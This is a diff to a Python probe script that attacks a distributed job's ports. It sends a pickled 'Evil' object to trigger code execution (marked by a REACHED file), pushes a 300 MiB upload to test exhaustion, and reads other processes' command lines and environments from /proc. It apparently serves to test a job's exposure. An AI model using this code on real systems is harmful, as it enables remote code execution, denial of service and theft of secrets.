@@ -1,6 +1,7 @@
-"""What another user can do at the ports of a job: `python stranger.py REACHED PORT ...`, as a user without rights.
+"""What a stranger can do at the ports of a job: `python stranger.py REACHED ADDRESS:PORT ...`. It needs no rights.
 
-It prints as JSON the answers that are not refusals, and the bytes that were accepted.
+It prints as JSON what it got: the answers that are not refusals, the bytes that were accepted, and what it could read.
+The file REACHED exists afterwards if the job has run its code.
 """
 
 from __future__ import annotations
@@ -12,9 +13,11 @@ import socket
 import struct
 import subprocess
 import sys
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
 
 HUGE = 300 * 2**20
-KEYS = ["127.0.0.1:0", "0"]
+KEYS = ["127.0.0.1:0", "beta:0", "0"]
 SCOPES = ["worker_addresses", "rank_and_size", "place", "global", "local_127.0.0.1", "cross_0", "runfunc"]
 
 
@@ -40,8 +43,9 @@ def request(host: str, port: int, head: str, body: bytes = b"") -> tuple[str, in
         return "", sent
 
 
-def attack(host: str, port: int) -> list[str]:
-    data = pickle.dumps(Evil())
+def attack(place: str) -> list[str]:
+    host, _, number = place.rpartition(":")
+    port, data = int(number), pickle.dumps(Evil())
     if "HTTP" not in request(host, port, "GET /global/0")[0]:
         speak(host, port, data)
         return []
@@ -56,10 +60,10 @@ def attack(host: str, port: int) -> list[str]:
                 ):
                     answer, _ = request(host, port, head, body)
                     if "HTTP" not in answer or " 200 " in answer:
-                        got.append(f"{head}: {answer}")
+                        got.append(f"{place}: {head}: {answer}")
     answer, sent = request(host, port, "PUT /worker_addresses/127.0.0.1:0", bytes(HUGE))
     if sent > HUGE / 10:
-        got.append(f"took {sent} bytes: {answer}")
+        got.append(f"{place}: took {sent} bytes: {answer}")
     return got
 
 
@@ -74,5 +78,19 @@ def speak(host: str, port: int, data: bytes) -> None:
             pass
 
 
-places = [each.split(":") for each in sys.argv[2:]]
-print(json.dumps([found for host, port in places for found in attack(host, int(port))]))
+def shown() -> bytes:
+    """Return all command lines and environments of this machine that this user can read."""
+    found = b""
+    for path in [*Path("/proc").glob("[0-9]*/cmdline"), *Path("/proc").glob("[0-9]*/environ")]:
+        try:
+            if path.parent.name != "self":
+                found += path.read_bytes()
+        except OSError:
+            pass
+    return found
+
+
+if __name__ == "__main__":
+    with ThreadPoolExecutor(16) as threads:
+        got = [found for each in threads.map(attack, sys.argv[2:]) for found in each]
+    print(json.dumps({"got": got, "shown": shown().decode(errors="replace")}))
